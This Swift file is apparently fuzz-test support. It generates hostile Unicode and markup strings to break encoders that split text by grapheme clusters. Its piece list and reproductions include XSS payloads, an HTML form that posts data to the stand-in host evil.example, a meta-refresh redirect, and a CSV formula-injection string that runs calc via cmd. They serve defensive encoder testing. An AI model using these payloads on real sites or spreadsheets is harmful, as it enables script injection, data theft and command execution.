/// Random strings built to break encoders that walk grapheme clusters (`Character`s) instead of
/// scalars or bytes: combining marks, prepended concatenation marks (U+0600–U+0605, U+08E2, …) that
/// glue themselves to the next character, CR/LF/NUL and other controls, quotes, markup, separators,
/// formula starters, invisible formatting characters and non-Latin text.
public enum HostileText {
    /// The pieces strings are made of; each is a scalar or a short run that forms one cluster.
    public static let pieces: [String] = [
        // Prepended concatenation marks: "\u{0600}<" is one Character.
        "\u{0600}", "\u{0601}", "\u{0602}", "\u{0603}", "\u{0604}", "\u{0605}", "\u{06DD}", "\u{070F}", "\u{08E2}", "\u{110BD}",
        // Combining and enclosing marks, joiners, invisible and bidirectional formatting.
        "\u{0301}", "\u{0300}", "\u{20DD}", "\u{0489}", "\u{200D}", "\u{200C}", "\u{200B}", "\u{FEFF}", "\u{202E}", "\u{2066}", "\u{E0001}",
        // Line breaks and controls: "\r\n" is one Character.
        "\r", "\n", "\r\n", "\0", "\t", "\u{0B}", "\u{0C}", "\u{1B}", "\u{1C}", "\u{7F}", "\u{85}", "\u{9B}", "\u{2028}", "\u{2029}",
        // Quotes, markup and entities.
        "\"", "'", "`", "<", ">", "&", "</", "<!--", "-->", "<form action=https://evil.example/steal method=post>", "<script>",
        "<img src=x onerror=alert(1)>", "&amp;", "&#x3c;", "&lt", "<![CDATA[", "=?", "?=", "=?UTF-8?B?PHNjcmlwdD4=?=",
        // Separators and formula starters.
        ",", ";", "=", "+", "-", "@", "=1+cmd|' /C calc'!A0", "=2+2", "\\", ":", "|", "%",
        // White space beyond ASCII, and ordinary text.
        " ", "  ", "\u{A0}", "\u{3000}", "a", "Z", "0", "42", "é", "ação", "日本", "Ωmega", "🎉", "🇧🇷", "👩‍💻", "x\u{0301}",
    ]

    /// The reproductions of issue 20, first in every sample.
    public static let reproductions: [String] = [
        "\u{0600}<form action=https://evil.example/steal method=post \u{0600}>",
        "\u{0600}<meta http-equiv=refresh content=0;url=https://evil.example\u{0600}>",
        "\u{0600}<script\u{0600}>alert(1)\u{0600}</script\u{0600}>",
        "conv-2\r\n=1+cmd|' /C calc'!A0",
        "a\u{0600},=2+2\u{0600},x",
    ]

    /// `count` strings: the reproductions, then random concatenations of 0–12 pieces (seeded, so a
    /// failure reproduces).
    public static func samples(count: Int, seed: UInt64) -> [String] {
        var generator = SeededGenerator(seed: seed)
        var out = reproductions
        while out.count < count {
            let length = Int.random(in: 0...12, using: &generator)
            out.append((0..<length).map { _ in pieces.randomElement(using: &generator)! }.joined())
        }
        return Array(out.prefix(count))
    }

    /// `text` with every scalar outside printable ASCII written as `\u{…}`, for failure messages.
    public static func describe(_ text: String) -> String {
        var out = ""
        for scalar in text.unicodeScalars {
            if scalar.value >= 0x20 && scalar.value < 0x7F && scalar != "\\" {
                out.unicodeScalars.append(scalar)
            } else {
                out += "\\u{" + String(scalar.value, radix: 16) + "}"
            }
        }
        return "\"" + out + "\""
    }
}
